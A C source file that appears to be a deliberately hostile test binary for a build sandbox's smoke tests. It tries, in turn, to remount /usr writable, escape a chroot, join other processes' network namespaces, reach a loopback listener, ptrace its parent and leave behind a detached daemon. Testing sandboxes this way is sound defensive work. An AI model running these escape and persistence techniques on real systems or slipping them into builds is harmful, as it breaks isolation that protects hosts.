/* A hostile release binary for the sandbox tests (tests/smoke/hostile.sh):
 * everything a compromised build could try from a smoke run. Each attempt
 * prints one line "ATTEMPT name: result"; the program always exits 0, so
 * the smoke run passes and the test judges the host, not the verdict.
 *
 * usage: hostile TAG PORT
 *   TAG   unique marker name: every file it manages to write is named
 *         xv-marker-TAG (the test looks for it on the host)
 *   PORT  a listener on the host's 127.0.0.1 (the test's) */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *tag;
static int port;

static void report(const char *what, int ok)
{
    printf("ATTEMPT %s: %s\n", what, ok ? "SUCCEEDED" : strerror(errno));
    fflush(stdout);
}

static int write_marker(const char *dir)
{
    char p[512];
    snprintf(p, sizeof p, "%s/xv-marker-%s", dir, tag);
    int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0)
        return 0;
    int ok = write(fd, "hostile\n", 8) == 8;
    close(fd);
    return ok;
}

static int try_connect(void)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0)
        return 0;
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int ok = connect(s, (struct sockaddr *)&a, sizeof a) == 0;
    if (ok)
        ok = write(s, "hostile\n", 8) == 8;
    int e = errno;
    close(s);
    errno = e;
    return ok;
}

int main(int argc, char **argv)
{
    if (argc < 3) {
        fprintf(stderr, "usage: hostile TAG PORT\n");
        return 2;
    }
    tag = argv[1];
    port = atoi(argv[2]);
    char buf[512];

    /* 1. Remount the (distro) tree writable and write into it. */
    int ok = mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL) == 0;
    report("remount /usr", ok);
    report("write /usr", write_marker("/usr"));
    report("write /usr/lib", write_marker("/usr/lib"));
    report("write /etc", write_marker("/etc"));
    report("write /", write_marker(""));

    /* 2. The classic chroot escape: chroot into a subfolder while keeping
     * the cwd outside it, climb, chroot to the real root. */
    mkdir("/tmp/xv-esc", 0700);
    ok = chroot("/tmp/xv-esc") == 0;
    report("chroot", ok);
    if (ok) {
        for (int i = 0; i < 64; i++)
            if (chdir("..") != 0)
                break;
        ok = chroot(".") == 0;
        report("chroot escape", ok);
    }
    report("write /tmp (after escape attempt)", write_marker("/tmp"));

    /* 3. setns into the parent's (xverify's or bwrap's) network namespace,
     * then into any namespace /proc shows. */
    snprintf(buf, sizeof buf, "/proc/%d/ns/net", (int)getppid());
    int fd = open(buf, O_RDONLY);
    ok = fd >= 0 && setns(fd, CLONE_NEWNET) == 0;
    report("setns parent net", ok);
    if (fd >= 0)
        close(fd);
    DIR *d = opendir("/proc");
    struct dirent *e;
    int any = 0;
    while (d && (e = readdir(d)) != NULL) {
        if (e->d_name[0] < '1' || e->d_name[0] > '9')
            continue;
        snprintf(buf, sizeof buf, "/proc/%s/ns/net", e->d_name);
        fd = open(buf, O_RDONLY);
        if (fd >= 0 && setns(fd, CLONE_NEWNET) == 0)
            any = 1;
        if (fd >= 0)
            close(fd);
    }
    if (d)
        closedir(d);
    errno = EPERM;
    report("setns any net", any);
    report("unshare user", unshare(CLONE_NEWUSER) == 0);

    /* 4. The host's listener on 127.0.0.1. */
    report("connect 127.0.0.1", try_connect());

    /* 5. ptrace the parent. */
    ok = ptrace(PTRACE_ATTACH, getppid(), NULL, NULL) == 0;
    report("ptrace parent", ok);
    if (ok)
        ptrace(PTRACE_DETACH, getppid(), NULL, NULL);

    /* 6. A setsid() daemon meant to outlive the run; it retries the writes
     * and the listener later, when the sandbox may be gone. */
    pid_t pid = fork();
    if (pid == 0) {
        setsid();
        if (fork() == 0) {
            prctl(PR_SET_NAME, "xvhostiled", 0, 0, 0);
            int nul = open("/dev/null", O_RDWR);
            if (nul >= 0) {
                dup2(nul, 0);
                dup2(nul, 1);
                dup2(nul, 2);
            }
            for (int i = 0; i < 600; i++) {
                sleep(1);
                write_marker("/tmp");
                write_marker("/etc");
                try_connect();
            }
            _exit(0);
        }
        _exit(0);
    }
    if (pid > 0)
        waitpid(pid, NULL, 0);
    report("daemon", pid > 0);
    return 0;
}
